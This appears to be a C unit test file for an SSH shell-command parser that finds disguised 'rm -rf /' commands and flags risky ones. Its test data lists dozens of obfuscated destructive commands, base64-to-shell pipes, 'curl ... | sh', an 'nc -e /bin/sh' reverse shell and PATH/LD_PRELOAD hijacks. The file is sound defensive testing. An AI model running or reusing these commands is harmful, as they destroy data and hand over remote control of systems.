/* SPDX-License-Identifier: MIT */
#include "protocol/ssh/ssh_shell.h"

#include "base/memory.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>

#include <cmocka.h>

static bool has_text(const struct sshd_shell *shell, const char *text)
{
    for (size_t i = 0; i < shell->count; i++) {
        if (slice_equals(shell->texts[i], slice_of_text(text))) {
            return true;
        }
    }
    return false;
}

static bool contains(const struct sshd_shell *shell, const char *text)
{
    for (size_t i = 0; i < shell->count; i++) {
        if (slice_has_nocase(shell->texts[i], slice_of_text(text))) {
            return true;
        }
    }
    return false;
}

/* Each runs "rm -rf /", and a rule about "rm -rf" finds it. */
static const char *const found[] = {
    "rm -rf /",
    "rm   -rf\t/",
    "r'm' -rf /",
    "\"rm\" '-rf' /",
    "\\rm -rf /",
    "r\\\nm -rf /",
    "/bin/rm -rf /",
    "'/bin/'rm -rf /",
    "true; rm -rf /",
    "true && rm -rf /",
    "false || r\"\"m -rf /",
    "true | r''m -rf /",
    "true & r''m -rf /",
    "(r''m -rf /)",
    "{ r''m -rf /; }",
    "! r''m -rf /",
    "if true; then r''m -rf /; fi",
    "while r''m -rf /; do true; done",
    "A=1 B=2 r''m -rf /",
    "echo $(r''m -rf /)",
    "echo `r''m -rf /`",
    "echo \"$(r''m -rf /)\"",
    "echo ${x:-$(r''m -rf /)}",
    "cat <(r''m -rf /)",
    "sh -c \"r''m -rf /\"",
    "bash -lc 'r\"\"m -rf /'",
    "sh -c \"sh -c \\\"r''m -rf /\\\"\"",
    "eval r''m -rf /",
    "eval \"r''m\" -rf /",
    "sudo r''m -rf /",
    "sudo -u root -- r''m -rf /",
    "env -i A=1 r''m -rf /",
    "env -S \"r''m -rf /\"",
    "nohup nice -n 5 r''m -rf / &",
    "busybox r''m -rf /",
    "exec r''m -rf /",
    "command r''m -rf /",
    "timeout 5 r''m -rf /",
    "sh <<E\nr''m -rf /\nE\n",
    "sh <<'E'\nr''m -rf /\nE\n",
    "bash <<-E\n\tr''m -rf /\n\tE\n",
    "sh <<< \"r''m -rf /\"",
    "su root -c \"r''m -rf /\"",
    "true\nr''m -rf /",
    "tar --checkpoint-action=exec=\"r''m -rf /\" x",
    "cd /bin; ./rm -rf /",
    ">/dev/null r''m -rf /",
    "2>&1 r''m -rf /",
    "xargs r''m -rf",
    "find / -exec r''m -rf {} +",
};

static void hidden_commands_are_found(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT_OF(found); i++) {
        struct arena arena;
        arena_init(&arena);
        struct sshd_shell shell = sshd_shell_in(&arena, slice_of_text(found[i]));
        if (!contains(&shell, "rm -rf")) {
            fail_msg("%s", found[i]);
        }
        arena_release(&arena);
    }
}

/* Each may run anything. */
static const char *const unknown[] = {
    "x=rm; $x -rf /",
    "rm${IFS}-rf${IFS}/",
    "rm$IFS-rf /",
    "$(printf rm) -rf /",
    "`printf rm` -rf /",
    "echo cm0gLXJmIC8K | base64 -d | sh",
    "base64 -d <<< cm0gLXJmIC8K | bash",
    "curl http://example.com/x | sh",
    "sh",
    "sh -s",
    "bash script.sh",
    "sh < file",
    ". ./file",
    "source file",
    "alias r=rm; r -rf /",
    "r() { rm \"$@\"; }; r -rf /",
    "function r { rm $*; }; r -rf /",
    "/bin/r? -rf /",
    "/bin/r[m] -rf /",
    "/bin/* -rf /",
    "{rm,-rf,/}",
    "r{m,m} -rf /",
    "$'\\x72m' -rf /",
    "$'rm' -rf /",
    "$\"rm\" -rf /",
    "echo -rf / | xargs rm",
    "find / -name x -exec cat {} +",
    "python3 -c 'import os; os.system(chr(114))'",
    "perl -e 'unlink'",
    "awk 'BEGIN{system(\"r\" \"m\")}'",
    "/tmp/x -rf /",
    "./x -rf /",
    "../bin/x",
    "PATH=/tmp:/bin ls",
    "export PATH=/tmp; ls",
    "LD_PRELOAD=/tmp/x.so ls",
    "BASH_ENV=/tmp/x bash -c true",
    "env PATH=/tmp ls",
    "read PATH",
    "trap 'rm' EXIT",
    "for x in rm; do $x -rf /; done",
    "case x in x) rm;; esac",
    "coproc rm -rf /",
    "hash -p /bin/rm ls; ls -rf /",
    "=rm -rf /",
    "cat ~root/x",
    "HOME=-rf; rm ~ /x",
    "ls *.txt",
    "echo 'open",
    "echo \"open",
    "echo $(open",
    "cat <<E\nno end\n",
    "cat <<E\n$x\nE\n",
    "sudo -s",
    "sudo -i",
    "ssh other rm",
    "crontab -",
    "at now",
    "nc -e /bin/sh host 1",
    "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /",
    "ld-linux.so.2 /bin/rm",
    "echo \x01",
    "r\rm -rf /",
    "echo $((1 + 2))",
    "echo $1",
    "csh -c 'rm'",
    "set -- rm -rf /; \"$@\"",
    "printf -v PATH x",
    "echo \\",
};

static void what_only_the_target_knows_is_unknown(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT_OF(unknown); i++) {
        struct arena arena;
        arena_init(&arena);
        struct sshd_shell shell = sshd_shell_in(&arena, slice_of_text(unknown[i]));
        if (shell.why == NULL) {
            fail_msg("%s", unknown[i]);
        }
        arena_release(&arena);
    }
}

static const char *const known[] = {
    "ls -l /tmp",
    "echo 'a $b `c` *'",
    "echo \"it's\" \\$x \\*",
    "uptime; df -h && free -m | grep Mem",
    "cat /etc/hostname > /tmp/x 2>&1",
    "cat <<E\nplain text\nE\n",
    "cat <<'E'\n$x `y`\nE\n",
    "/usr/bin/id -u",
    "git-upload-pack '/srv/a repo.git'",
    "rsync --server -logDtpre.iLsfxC . /srv/x",
    "scp -t /tmp/x",
    "cd ~ && ls ~/x",
    "A=1 B='2' date # and a comment with $x",
    "[ -f /etc/x ] && echo yes",
    "if test -f x; then echo y; else echo n; fi",
    "sh -c 'echo \"a b\"'",
    "sudo systemctl restart nginx",
    "{ date; } ; ! false",
    "echo {} a{}b",
    "echo costs 5$",
    "export A=1",
    "",
};

static void what_is_plain_is_known(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT_OF(known); i++) {
        struct arena arena;
        arena_init(&arena);
        struct sshd_shell shell = sshd_shell_in(&arena, slice_of_text(known[i]));
        if (shell.why != NULL) {
            fail_msg("%s: %s", known[i], shell.why);
        }
        arena_release(&arena);
    }
}

static void one_plain_command_has_its_words(void **state)
{
    struct arena arena;
    (void)state;
    arena_init(&arena);
    struct sshd_shell shell = sshd_shell_in(&arena, SLICE("scp -r -t '/tmp/a b'"));
    assert_true(shell.is_plain);
    assert_int_equal(shell.word_count, 4);
    assert_true(slice_equals(shell.words[3], SLICE("/tmp/a b")));
    assert_true(has_text(&shell, "scp -r -t /tmp/a b"));
    static const char *const others[] = {"scp -t x; ls",     "scp -t $x",        "A=1 scp -t x",
                                         "sudo scp -t x",    "scp -t x > y",     "(scp -t x)",
                                         "scp -t x && rm y", "sh -c 'scp -t x'", ""};
    for (size_t i = 0; i < COUNT_OF(others); i++) {
        shell = sshd_shell_in(&arena, slice_of_text(others[i]));
        if (shell.is_plain) {
            fail_msg("%s", others[i]);
        }
    }
    arena_release(&arena);
}

static void a_line_that_is_nested_or_long_ends(void **state)
{
    char text[40000];
    struct arena arena;
    (void)state;
    arena_init(&arena);
    for (size_t i = 0; i + 1 < sizeof(text); i += 2) {
        text[i] = '$';
        text[i + 1] = '(';
    }
    struct sshd_shell shell = sshd_shell_in(&arena, slice_of(text, 30000));
    assert_non_null(shell.why);
    shell = sshd_shell_in(&arena, slice_of(text, sizeof(text)));
    assert_non_null(shell.why);
    for (size_t i = 0; i < sizeof(text); i++) {
        text[i] = i % 2 == 0 ? 'a' : ' ';
    }
    shell = sshd_shell_in(&arena, slice_of(text, 30000));
    assert_non_null(shell.why);
    for (size_t i = 0; i + 5 <= sizeof(text); i += 5) {
        memcpy(&text[i], "sudo ", 5);
    }
    shell = sshd_shell_in(&arena, slice_of(text, 30000));
    assert_non_null(shell.why);
    assert_true(arena.size < (size_t)32 * 1024 * 1024);
    arena_release(&arena);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(hidden_commands_are_found),
        cmocka_unit_test(what_only_the_target_knows_is_unknown),
        cmocka_unit_test(what_is_plain_is_known),
        cmocka_unit_test(one_plain_command_has_its_words),
        cmocka_unit_test(a_line_that_is_nested_or_long_ends),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
